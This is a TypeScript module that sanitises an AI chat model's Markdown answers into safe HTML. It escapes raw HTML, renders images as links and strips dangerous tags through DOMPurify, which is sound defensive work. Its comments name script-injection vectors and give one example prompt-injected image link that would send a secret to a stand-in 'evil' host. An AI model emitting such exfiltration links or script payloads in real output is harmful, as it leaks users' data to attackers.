// Markdown to safe HTML. The model's text is untrusted: raw HTML in it is
// shown as text (never parsed), and the produced HTML goes through DOMPurify
// as a second line of defence, so `<script>`, `onerror=` and `javascript:`
// links cannot run. Images are never loaded (see `image` below), and the
// page's Content-Security-Policy (Nginx) allows only its own and data: ones.

import DOMPurify from 'dompurify';
import { Marked, type Tokens } from 'marked';

const escapeHtml = (s: string) =>
  s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&#39;');

const marked = new Marked({
  gfm: true,
  breaks: false,
  renderer: {
    // Raw HTML in an answer is text, not markup.
    html(token: Tokens.HTML | Tokens.Tag): string {
      return escapeHtml(token.text);
    },
    // An image is shown as a link, never loaded: a prompt-injected
    // `![](https://evil/?q=secret)` would otherwise leak with no click.
    image(token: Tokens.Image): string {
      const label = token.text || token.href;
      return `<a href="${escapeHtml(token.href)}" class="image-link">${escapeHtml(label)}</a>`;
    },
    code(token: Tokens.Code): string {
      const lang = (token.lang ?? '').trim().split(/\s+/)[0] ?? '';
      const label = lang ? `<span class="code-lang">${escapeHtml(lang)}</span>` : '<span class="code-lang"></span>';
      const cls = lang ? ` class="language-${escapeHtml(lang)}"` : '';
      return (
        `<div class="code-block"><div class="code-head">${label}` +
        `<button type="button" class="copy-code" data-copy-code="1" aria-label="Copy code">Copy</button></div>` +
        `<pre><code${cls}>${escapeHtml(token.text)}</code></pre></div>`
      );
    },
  },
});

let hooked = false;
function purifier(): typeof DOMPurify {
  if (!hooked) {
    hooked = true;
    DOMPurify.addHook('afterSanitizeAttributes', (node) => {
      if (node.tagName === 'A') {
        node.setAttribute('target', '_blank');
        node.setAttribute('rel', 'noopener noreferrer nofollow');
      }
    });
  }
  return DOMPurify;
}

/** Renders `text` (possibly a half-streamed answer) to sanitised HTML. */
export function renderMarkdown(text: string): string {
  const html = marked.parse(text, { async: false }) as string;
  return purifier().sanitize(html, {
    USE_PROFILES: { html: true },
    FORBID_TAGS: ['style', 'form', 'input', 'textarea', 'select', 'iframe', 'object', 'embed', 'img', 'picture', 'video', 'audio', 'source'],
    FORBID_ATTR: ['style'],
  });
}
